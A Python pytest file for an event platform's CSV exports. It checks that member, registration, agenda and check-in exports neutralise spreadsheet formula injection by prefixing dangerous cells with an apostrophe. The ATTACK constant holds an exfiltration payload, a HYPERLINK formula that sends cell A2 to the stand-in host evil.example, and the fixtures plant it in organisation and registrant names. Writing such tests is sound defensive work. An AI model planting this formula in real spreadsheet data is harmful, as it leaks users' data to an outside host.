"""Every CSV export goes through one writer: a value someone typed that a spreadsheet would run as a
formula (=, +, -, @) comes out inert, in the header (question labels) as in the cells."""
import csv
import io

import pytest

from eventhub.badges import services as badges
from eventhub.members import csvio
from tests.factories import make_organisation, make_question, make_registration, make_session, open_event, \
    publish_agenda

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


def cells(data: bytes) -> list[list[str]]:
    """The rows of a CSV export, which must start with the BOM Excel needs to read UTF-8."""
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def formulas(rows: list[list[str]]) -> list[str]:
    """Every cell a spreadsheet would run as a formula."""
    return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]


@pytest.fixture
def event():
    """An event running today (so its door is open), with a member city whose name is a formula."""
    return open_event(days_from_now=-1, length_days=3)


@pytest.fixture
def attacker(event):
    city = make_organisation(name=ATTACK, country="FR", website="https://example.org")
    make_question(event, {"label": "=1+1", "key": "sum", "kind": "short_text"})
    return make_registration(event, full_name=ATTACK, position="+33 1 23", organisation_id=city.id,
                             answers={"sum": "@SUM(A1:A9)"})


def test_the_members_export_neutralises_formulas(organiser_browser, attacker):
    rows = cells(organiser_browser.get("/members/export.csv").data)
    assert formulas(rows) == []
    assert ["'" + ATTACK, "FR"] == [rows[1][0], rows[1][3]]


def test_the_members_export_imports_back_as_it_was_typed(organiser_browser, attacker):
    before = csvio.export_csv()
    report = csvio.import_csv(before)
    assert (report.ok, report.created, report.updated) == (True, 0, 0)
    assert attacker.organisation.name == ATTACK and csvio.export_csv() == before


def test_the_registrations_export_neutralises_names_answers_and_question_labels(organiser_browser, event, attacker):
    rows = cells(organiser_browser.get(f"/manage/events/{event.slug}/registrations.csv").data)
    assert formulas(rows) == []
    assert rows[0][-1] == "'=1+1 (sum)"
    person = dict(zip(rows[0], rows[1]))
    assert (person["full_name"], person["position"], person["organisation"]) == ("'" + ATTACK, "'+33 1 23",
                                                                                 "'" + ATTACK)
    assert person["'=1+1 (sum)"] == "'@SUM(A1:A9)"


def test_the_agenda_export_neutralises_titles_and_speakers(client, event, attacker):
    make_session(event, title="-1 floor tour", people=[{"registration_id": attacker.id}])
    publish_agenda(event)
    rows = cells(client.get(f"/events/{event.slug}/agenda.csv").data)
    assert formulas(rows) == []
    assert rows[1][6:8] == ["'-1 floor tour", "'" + ATTACK]


def test_the_checkin_export_neutralises_names_and_stations(organiser_browser, event, attacker):
    answer = organiser_browser.client.post(
        f"/checkin/{event.slug}/scan", json={"code": badges.valid_badge(attacker).token, "station": "=Gate A"},
        headers={"X-CSRFToken": organiser_browser.token(), "Accept": "application/json"})
    assert answer.json["status"] == "ok"
    rows = cells(organiser_browser.get(f"/checkin/{event.slug}/checkins.csv").data)
    assert formulas(rows) == []
    scan = dict(zip(rows[0], rows[1]))
    assert (scan["station"], scan["name"], scan["organisation"]) == ("'=Gate A", "'" + ATTACK, "'" + ATTACK)
